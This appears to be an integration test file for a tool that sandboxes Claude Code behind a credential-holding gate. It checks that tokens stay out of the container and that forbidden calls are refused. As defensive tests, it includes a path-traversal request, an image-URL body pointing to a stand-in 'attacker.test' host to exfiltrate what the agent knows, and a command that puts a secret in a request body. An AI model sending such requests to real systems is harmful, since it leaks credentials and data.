import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { labelKeys } from "../../src/bottle/docker/labels.ts";
import { listContainers } from "../../src/engine/containers.ts";
import type { Engine } from "../../src/engine/engine.ts";
import { runExec } from "../../src/engine/exec.ts";
import { betas, headerNames } from "../../src/sidecar/gate/api-vocabulary.ts";
import { tokenPlaceholder } from "../../src/protocol/gate.ts";
import { engineForTests } from "../support/engine-gate.ts";
import { listRuntimes } from "../support/runtime-choice.ts";
import { beginSessionWorld, realKey, realToken } from "../support/session/world.ts";
import type { Project, SessionWorld } from "../support/session/world.ts";

// Needs: openssl
setDefaultTimeout(240_000);
const found = await engineForTests();
const engine = found as Engine;
const runtimes = typeof found === "string" ? [] : await listRuntimes(engine);
let world: SessionWorld;

/** The stand-in's address is private, which a real API's is not */
const egress = { private: ["api.anthropic.com", "page.test"] };
const manifest = {
  bottles: {
    gated: { egress },
    plain: { egress, auth: "env" },
    bound: { egress, env: { PAGE_TOKEN: { value: "${HOST_PAGE_TOKEN}", hosts: ["page.test"] } } },
  },
  agents: { tester: { bottle: "gated" }, open: { bottle: "plain" }, binder: { bottle: "bound" } },
};

/** What the gate writes anew, or leaves out because it is for one connection */
const written: ReadonlySet<string> = new Set([
  "authorization",
  "connection",
  "content-type",
  "host",
  "transfer-encoding",
  "x-api-key",
]);

/** Text and Enter in one write would count as a paste */
async function enter(terminal: { type(text: string): void }, text: string): Promise<void> {
  terminal.type(text);
  await Bun.sleep(600);
  terminal.type("\r");
}

/** Files and environments of processes that hold the text, as the agent could find them: its root has no right to look at more. */
async function findInBottle(project: Project, wanted: string): Promise<string[]> {
  const [entry] = await project.readJournal();
  const labels = [`${labelKeys.session}=${entry?.session}`, `${labelKeys.role}=agent`];
  const [agent] = await listContainers(engine, labels);
  const script = `IFS= read -r wanted; grep -slF -- "$wanted" /proc/[0-9]*/environ
    find / -xdev \\( -path /proc -o -path /sys \\) -prune -o -type f -size -4096k -print0 2>/dev/null | xargs -0 grep -slF -- "$wanted"
    find /tmp /run /dev/shm /home -type f -print0 2>/dev/null | xargs -0 -r grep -slF -- "$wanted"; true`;
  const { stdout } = await runExec(engine, agent?.Id ?? "", {
    command: ["/bin/sh", "-c", script],
    input: `${wanted}\n`,
  });
  return Buffer.from(stdout).toString().split("\n").filter(Boolean);
}

async function sessionOf(project: Project): Promise<string> {
  const { stdout } = await project.run(["sessions", "--json"]);
  return /"session": ?"([a-z0-9]+)/.exec(stdout)?.[1] ?? "";
}

/** The calls that the gate let through or refused, from the session's record. */
async function callsOf(project: Project): Promise<string[]> {
  const session = await sessionOf(project);
  const folder = join(project.environment["HOME"] ?? "", ".local/state/claude-bottle/sessions", session);
  const lines = (await readFile(join(folder, "egress.jsonl"), "utf8")).trim().split("\n");
  const records = lines.map((line) => JSON.parse(line) as { kind: string; reason?: string });
  return records.flatMap((record) => (record.kind === "api" ? (record.reason ?? "") : []));
}

describe.skipIf(typeof found === "string")("Claude's calls through the gate", () => {
  beforeAll(async () => {
    world = await beginSessionWorld(engine, ["page.test"]);
  });
  afterAll(() => world?.end());

  test.each(runtimes)(
    "a conversation of three turns with tools holds the placeholder only, under %s",
    async (runtime) => {
      const before = (await world.api.requests()).length;
      const project = await world.makeProject(runtime, manifest);
      const terminal = project.open(["start", "tester", "--yes"]);
      await terminal.waitFor("bypass permissions on", 60_000);
      for (const turn of [1, 2, 3]) {
        await enter(terminal, `run: echo turn-${turn}-$((40+${turn}))`);
        await terminal.waitFor(`The command printed: turn-${turn}-4${turn}`, 90_000);
      }
      expect(await findInBottle(project, realToken)).toEqual([]);
      // The controls: the same search finds what is there, in both kinds of places
      expect((await findInBottle(project, tokenPlaceholder)).join()).toContain("/environ");
      expect((await findInBottle(project, "turn-3-43")).join()).toContain("/home/node/");
      const [entry] = await project.readJournal();
      const { stdout: told } = await project.run(["info", entry?.bottleName ?? ""]);
      expect(told).toMatch(/CLAUDE_BOTTLE_OAUTH_TOKEN  used for api\.anthropic\.com  \d+ times  20/);
      await enter(terminal, "/exit");
      expect(await terminal.exitCode).toBe(0);
      const requests = (await world.api.requests()).slice(before);
      expect(requests.length).toBeGreaterThanOrEqual(6);
      for (const { authorization, apiKey } of requests)
        expect([authorization, apiKey]).toEqual([`Bearer ${realToken}`, undefined]);
      console.log(`Calls of Claude Code under ${runtime}:`, new Set(await callsOf(project)));
    },
  );

  test("lets all pass that Claude Code sends, also where it takes the API for the real one", async () => {
    const calls = async (agent: string, prompt: string) => {
      const before = (await world.api.requests()).length;
      const project = await world.makeProject("runc", manifest);
      const { stdout } = await project.run(["start", agent, "--yes", "--", "-p", prompt]);
      expect(stdout).not.toBe("");
      const requests = (await world.api.requests()).slice(before);
      return requests.filter((one) => one.url.startsWith("/v1/messages"));
    };
    const seen = [
      ...(await calls("tester", "run: echo $((40+2))")),
      ...(await calls("open", "run: echo $((40+2))")),
      ...(await calls("open", "fetch: https://page.test/x")),
    ];
    const lists = seen.map((one) => ({
      problem: one.problem,
      headers: one.headers.filter((name) => !headerNames.test(name) && !written.has(name)),
      betas: (one.beta ?? "").split(",").filter((name) => !betas.test(name) && name !== "oauth-2025-04-20"),
      contentType: one.contentType,
    }));
    expect(seen.length).toBeGreaterThanOrEqual(6);
    console.log("Betas of Claude Code:", new Set(seen.flatMap((one) => (one.beta ?? "").split(","))));
    for (const one of lists)
      expect(one).toEqual({ problem: undefined, headers: [], betas: [], contentType: "application/json" });
  });

  test("other calls and other accounts' keys do not get through; the control gets through without the gate", async () => {
    const key = "sk-ant-somebody-elses";
    const ask = (words: string) => `curl -sS -o /dev/null -w '%{http_code}' -H 'x-api-key: ${key}' ${words}`;
    const say = async (agent: string, command: string) => {
      const project = await world.makeProject("runc", manifest);
      return (await project.run(["start", agent, "--yes", "--", "-p", `run: ${command}`])).stdout;
    };
    const seen = async () => (await world.api.requests()).filter((one) => one.url.startsWith("/v1/files"));
    for (const path of [
      "/v1/files",
      "/v1/files?beta=true",
      "/v1/messages/../files",
      "/v1/messages/batches",
      "/v1/skills",
    ])
      expect([path, await say("tester", ask(`--path-as-is -F a=b http://gate:8080${path}`))]).toEqual([
        path,
        "The command printed: 403\n",
      ]);
    expect(await seen()).toEqual([]);
    // Another account's key on a call that is let through is taken away, and the user's own put in
    const count = ask(
      `-H 'content-type: application/json' -d '{}' http://gate:8080/v1/messages/count_tokens`,
    );
    expect(await say("tester", count)).toBe("The command printed: 200\n");
    const counted = (await world.api.requests()).findLast((one) =>
      one.url.startsWith("/v1/messages/count_tokens"),
    );
    expect([counted?.authorization, counted?.apiKey]).toEqual([`Bearer ${realToken}`, undefined]);
    // Nor does a body that would have the API's servers fetch an address of the agent's
    const source = { type: "url", url: "https://attacker.test/?what-the-agent-knows" };
    const image = { model: "m", messages: [{ role: "user", content: [{ type: "image", source }] }] };
    const before = (await world.api.requests()).length;
    const fetching = ask(
      `-H 'content-type: application/json' -d '${JSON.stringify(image)}' http://gate:8080/v1/messages/count_tokens`,
    );
    expect(await say("tester", fetching)).toBe("The command printed: 403\n");
    const since = (await world.api.requests()).slice(before);
    expect(since.filter((one) => one.url.startsWith("/v1/messages/count_tokens"))).toEqual([]);
    // The tunnel to the API's name is not granted by the gate's own use of it; here the test grants it, for the stand-in is private
    expect(await say("open", ask("-F a=b https://api.anthropic.com/v1/files"))).toBe(
      "The command printed: 401\n",
    );
    expect((await seen()).map((one) => one.apiKey)).toEqual([key]);
  });

  test("WebFetch reads a granted page without asking the API about its host", async () => {
    const project = await world.makeProject("runc", manifest);
    const before = (await world.api.requests()).length;
    const result = await project.run(["start", "tester", "--yes", "--", "-p", "fetch: https://page.test/x"]);
    expect(result.stdout).toBe("The command printed: the page was read\n");
    const requests = (await world.api.requests())
      .slice(before)
      .map((one) => `${one.method} ${one.host}${one.url}`);
    expect(requests).toContain("GET page.test/x");
    expect(requests.filter((line) => !line.startsWith("POST api.anthropic.com/v1/messages"))).toEqual([
      "GET page.test/x",
    ]);
  });

  test("a secret for a host is used there by its placeholder, and the record says so", async () => {
    const value = "page-token-x7Kq2mNp9RwT";
    const project = await world.makeProject("runc", manifest, { HOST_PAGE_TOKEN: value });
    const command = `curl -sS -H "Authorization: token $PAGE_TOKEN" --data "$PAGE_TOKEN" https://page.test/; echo $PAGE_TOKEN`;
    const result = await project.run(["start", "binder", "--yes", "--", "-p", `run: ${command}`]);
    expect(result.stdout).toMatch(/printed: hello from page\.test\ncb-secret-page-token-[0-9a-f]{24}\n$/);
    expect(result.stderr).toMatch(
      /PAGE_TOKEN +copied from HOST_PAGE_TOKEN +stays in the sidecar, for page\.test /,
    );
    expect(result.stderr).toContain("PAGE_TOKEN  placeholder in the body to page.test, 1 time");
    const seen = (await world.api.requests()).findLast((one) => one.host === "page.test");
    expect(seen?.authorization).toBe(`token ${value}`);
    const receipt = (await project.run(["show", await sessionOf(project), "--json"])).stdout;
    const { ledger } = JSON.parse(receipt) as { ledger: readonly Record<string, unknown>[] };
    expect(ledger).toMatchObject([
      { name: "CLAUDE_BOTTLE_OAUTH_TOKEN", host: "api.anthropic.com", verdict: "used" },
      { name: "PAGE_TOKEN", host: "page.test", verdict: "used", count: 1 },
      { name: "PAGE_TOKEN", host: "page.test", verdict: "blocked", where: "body", count: 1 },
    ]);
    expect(receipt + result.stdout + result.stderr).not.toContain(value);
  });

  test("a key of the API is put in as such", async () => {
    const project = await world.makeProject("runc", manifest, {
      CLAUDE_BOTTLE_OAUTH_TOKEN: "",
      ANTHROPIC_API_KEY: realKey,
    });
    const before = (await world.api.requests()).length;
    const result = await project.run(["start", "tester", "--yes", "--", "-p", "run: echo tool-$((6*7))"]);
    expect(result.stdout).toBe("The command printed: tool-42\n");
    for (const { authorization, apiKey } of (await world.api.requests()).slice(before))
      expect([authorization, apiKey]).toEqual([undefined, realKey]);
  });

  test("a credential that the API refuses is told at the end, with what to do", async () => {
    const project = await world.makeProject("runc", manifest, {
      CLAUDE_BOTTLE_OAUTH_TOKEN: "sk-test-too-old",
    });
    const result = await project.run(["start", "tester", "--yes", "--", "-p", "say: hello"]);
    expect(result.exitCode).toBe(1);
    expect(result.stderr).toContain(
      'The API refused the credential in CLAUDE_BOTTLE_OAUTH_TOKEN (401); renew it with "claude setup-token"',
    );
    expect(result.stderr + result.stdout).not.toContain("sk-test-too-old");
    expect(await callsOf(project)).toContain("POST /v1/messages answered 401");
  });
});
